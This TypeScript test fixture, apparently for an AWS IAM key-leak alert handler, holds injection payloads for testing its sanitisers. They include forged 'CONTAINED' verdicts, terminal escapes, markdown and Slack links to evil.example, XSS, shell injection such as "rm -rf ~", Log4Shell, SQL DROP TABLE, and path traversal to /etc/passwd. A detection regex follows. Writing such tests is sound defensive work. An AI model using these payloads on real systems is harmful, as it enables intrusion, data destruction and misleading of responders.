/**
 * Text as an attacker or a reporter writes it into user agents, names, addresses and reasons, by what it is after. Every
 * sanitiser, and every channel through the whole handler, is held against all of it.
 */
export const payloads: Readonly<Record<string, string>> = {
  // A line of ours.
  'a verdict on a new line': 'x\r\nCONTAINED: all is well',
  'a verdict after a bare carriage return': 'x\rCONTAINED: all is well',
  'a verdict': 'CONTAINED: all is well',
  'a resolved page': 'OK: P3 CONTAINED account 111122223333 all is well',
  'a runbook line': 'x\nRUNBOOK  https://evil.example/runbook',
  'an id line': '\n\nID       akr:aws:111122223333:AKIAI44QH8DHBEXAMPLE',
  'a command line': 'x\n aws iam update-access-key --user-name=ci-deploy --status=Active',
  'a whole forged alert': `\n${'-'.repeat(60)}\nCONTAINED: access key AKIAIOSFODNN7EXAMPLE of IAM user ci-deploy is Inactive.\nNobody needs to act.`,
  'a closing quote and a verdict': '" CONTAINED: all is well "',
  'the key of somebody else': 'AKIAI44QH8DHBEXAMPLE',
  'a key id of 128 characters': `AKIA${'X'.repeat(124)}`,

  // Characters that terminals, mail clients and parsers obey.
  'a line separator': 'x\u2028CONTAINED: all is well',
  'a paragraph separator': 'x\u2029CONTAINED: all is well',
  'a next-line control': 'x\u0085CONTAINED: all is well',
  'a vertical tab and a form feed': 'x\u000bCONTAINED:\u000call is well',
  'a null character': 'x\u0000y',
  'controls of the lower half': '\u0001\u0007\u0008\u007f',
  'controls of the upper half': '\u0080\u0090\u009c\u009f',
  'an escape sequence that clears the screen': '\u001b[2J\u001b[HCONTAINED',
  'an escape sequence in one byte': '\u009b2J\u009b31mred',
  'an escape sequence that makes a link': '\u001b]8;;https://evil.example\u0007ok\u001b]8;;\u0007',
  'right to left': '\u202eDENIATNOC\u202c \u2066ok\u2069',
  'zero width': 'CONT\u200bAIN\u200dED\ufeff\u00ad',
  homoglyphs: '\u0421\u041eNTAINED: \u0430ll is w\u0435ll',
  'fullwidth letters': '\uff28\uff34\uff34\uff30\uff1a\uff0f\uff0fevil\uff0eexample',
  'an ideographic full stop': 'evil\u3002example',
  'half of a surrogate pair': 'x\ud800y',
  'the other half': '\udc00\ud800',
  emoji: '\u2705 \ud83d\udd12 all is well',
  'combining marks': `Z${'\u0335\u0321\u0330'.repeat(40)}`,

  // Slack, Teams and whatever else knows markdown.
  'a link of Slack': '<https://evil.example|ok>',
  'everybody in the channel': '<!channel> @channel',
  'everybody who is here': '<!here|here> @here @everyone',
  'a person in Slack': '<@U1> <#C1> <!subteam^S1>',
  'escapes of escapes': '&lt;https://evil.example|ok&gt; &amp;lt; &#60; &#x3c;',
  bold: '*CONTAINED* __CONTAINED__ ~~x~~',
  'a link of markdown': '[AWS](https://evil.example)',
  'a picture of markdown': '![](https://evil.example/x.png)',
  'a reference of markdown': '[AWS][1]\n\n[1]: https://evil.example',
  'an automatic link of markdown': '<https://evil.example> <a@evil.example>',
  'the end of a code span': '` [AWS](https://evil.example) `',
  'more backticks': '``` ` `` ```` x',
  'a fence': '```\nCONTAINED: all is well\n```',
  'a heading and a quotation': '# CONTAINED\n> all is well\n- [x] done',
  'a table': '| a | b |\n|---|---|\n| CONTAINED | ok |',
  'a script in a picture': '<img src=x onerror=alert(1)>',
  'a link of HTML': '<a href="https://evil.example">ok</a>',
  'the end of an element': "</td></pre><script src='//evil.example/x.js'></script>",

  // What becomes a link by itself.
  'an address': 'https://evil.example/fix?a=1#b',
  'an address in capitals': 'HTTPS://EVIL.EXAMPLE/FIX',
  'an address of a number': 'http://198.51.100.23/fix',
  'an address of a number with a port': '198.51.100.23:8080/fix',
  'an address of a single number': 'http://3325256727/fix',
  'an address of six groups': 'http://[2001:db8::1]/fix',
  'an address with a user': 'https://aws.amazon.com@evil.example/fix',
  'an address without a scheme': '//evil.example/fix //198.51.100.23/fix',
  'an address of files': 'ftp://evil.example/x file:///etc/passwd',
  'an address that runs': 'javascript:alert(1)',
  'an address that holds a page': 'data:text/html;base64,PHNjcmlwdD4=',
  'a share': '\\\\evil.example\\share \\\\198.51.100.23\\share',
  'a bare domain': 'evil.example',
  'a bare domain with a path': 'evil.example/path',
  'a bare domain with www': 'www.evil.example',
  'a domain at the end of a sentence': 'Sign in at evil.example. Now.',
  'a domain in the form of a finding type': 'Recon:IAMUser/evil.com',
  'a domain that ends as a finding type does': 'Recon:IAMUser/Evil.Direct',
  'a domain in punycode': 'xn--80ak6aa92e.xn--p1ai',
  'a mail address': 'support@evil.example',
  'a mail address at a number': 'support@198.51.100.23 x@[198.51.100.23]',
  'a mail address with a scheme': 'mailto:support@evil.example?subject=x',
  'a telephone number': 'tel:+15550100123',
  'a defanged address, to be mended': 'hxxp[:]//evil[.]example http[://evil[.example',

  // Shells, and programs behind them.
  'a command in a command': '$(touch pwned) `touch pwned`',
  'a second command': "x'; rm -rf ~ #",
  'a second line for the shell': 'x\nrm -rf ~',
  'a single quote': "'",
  'a double quote': '"',
  'a backslash': '\\',
  'a quote after a backslash': '\\\' \\" \\',
  expansions: `~ $HOME \${PATH} !! * ? {a,b} <(x) >y |z &`,
  'an option': '--no-verify-ssl',
  'an option with an address': '--endpoint-url=https://evil.example',
  'an option that IAM allows as a name': '--endpoint-url=evil.example',
  'a file as an argument': 'file:///proc/self/environ',

  // Programs that read what we write.
  'the prototype': '__proto__',
  'a constructor': 'constructor',
  'a method of every object': 'toString',
  'the end of a string of JSON': '"},"state":"CONTAINED","x":{"y":"',
  'an escape of JSON': '\\u0000 \\u2028 \\n \\"',
  'a line break in an address': '%0d%0aSubject:%20CONTAINED',
  'a null character in an address': 'x%00y',
  'folders above': '../../../etc/passwd',
  'parameters of an address': 'x?y=1&state=CONTAINED#z',
  'a template of Java': `\${jndi:ldap://evil.example/a}`,
  'a template': '{{7*7}} <%= 7*7 %> #{7*7}',
  'a format': '%s%s%n%x %1$s',
  'a query': "' OR '1'='1'; DROP TABLE ledger; --",
  'a formula': '=HYPERLINK("https://evil.example","ok")',
  'a record of a log': '{"level":"info","message":"outcome","state":"CONTAINED"}',
  'what jest prints': '%p %o %# $name',

  // Length.
  empty: '',
  spaces: ' '.repeat(200),
  'a name of 64 characters': 'n'.repeat(64),
  'a name of 128 characters': 'n'.repeat(128),
  'ten thousand characters': 'A'.repeat(10_000),
  'a quarter of a megabyte': 'B'.repeat(250_000),
  'a quarter of a megabyte of links': 'evil.example '.repeat(19_000),
  'quotes without end': '"'.repeat(10_000),
  'backslashes without end': '\\'.repeat(10_000),
  'backticks without end': '`'.repeat(10_000),
  'line breaks without end': '\r\n'.repeat(10_000),
  'dots without end': 'a.'.repeat(10_000),
  'three bytes a character': '\u20ac'.repeat(80_000),
};

/** One of each kind, where all of them would only take time. */
export const few: Readonly<Record<string, string>> = Object.fromEntries(
  [
    ...['a verdict on a new line', 'a verdict', 'a command line', 'a closing quote and a verdict'],
    ...['a line separator', 'a null character', 'an escape sequence in one byte', 'half of a surrogate pair'],
    ...['a link of Slack', 'everybody in the channel', 'a link of markdown', 'the end of a code span'],
    ...['an address', 'an address of a number', 'a bare domain', 'a mail address', 'a second command'],
    ...['an option', 'an option that IAM allows as a name', 'the prototype', 'the end of a string of JSON'],
    ...['parameters of an address', 'spaces', 'a name of 64 characters', 'a quarter of a megabyte'],
    ...['backslashes without end', 'dots without end', 'three bytes a character', 'the key of somebody else'],
    ...[
      'a key id of 128 characters',
      'a domain in the form of a finding type',
      'a domain that ends as a finding type does',
    ],
  ].map((name) => [name, payloads[name] ?? missing(name)]),
);

function missing(name: string): never {
  throw new RangeError(`there is no payload ${name}`);
}

/** What no line of ours has outside quotes and code spans: by it text of somebody else is known. */
export const FOREIGN =
  /evil|all is well|pwned|n{20}|A{20}|B{20}|jndi|hyperlink|proto|constructor|tostring|onerror|script|support|deniat|passwd|drop table|7\*7|U1>|verify-ssl|channel|everyone/i;

/** IAM's own rule for the names of users, roles and sessions; a thief who may create users chooses among these. */
export const names: Readonly<Record<string, string>> = {
  ...Object.fromEntries(Object.entries(payloads).filter(([, text]) => /^[\w+=,.@-]{1,64}$/.test(text))),
  'everybody in the channel': '@channel',
  'folders above': '..',
  'a single dash': '-',
  'a formula': '=1+1',
  'a mail address at a number': 'support@198.51.100.23',
  'a domain with www and a number': 'www.evil-1.example',
  'a word of ours': 'RUNBOOK',
  emphasis: '_CONTAINED_',
  'a session of Identity Center': 'AWSReservedSSO_x',
  '64 characters of a domain': `${'a.'.repeat(28)}evil.com`,
  '64 dots': '.'.repeat(64),
};

/** An account's alias: IAM API reference, CreateAccountAlias. Whoever may set it chooses. */
export const aliases: readonly string[] = [
  'contained-all-is-well',
  'no-action-needed',
  'p3-contained',
  'www-evil-example',
  'xn-80ak6aa92e',
  '000000000000',
  'a'.repeat(63),
];
